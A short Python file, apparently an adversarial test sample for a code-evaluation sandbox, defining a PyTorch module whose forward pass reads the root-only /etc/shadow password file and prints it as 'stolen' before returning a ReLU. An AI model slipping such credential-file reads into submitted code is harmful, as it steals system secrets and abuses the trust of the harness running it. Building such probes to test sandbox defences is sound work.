"""Tries to read a file only root may read (the shadow password file) to smuggle it out."""

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        with open("/etc/shadow") as handle:
            print("stolen:", handle.read())
        return x.relu()
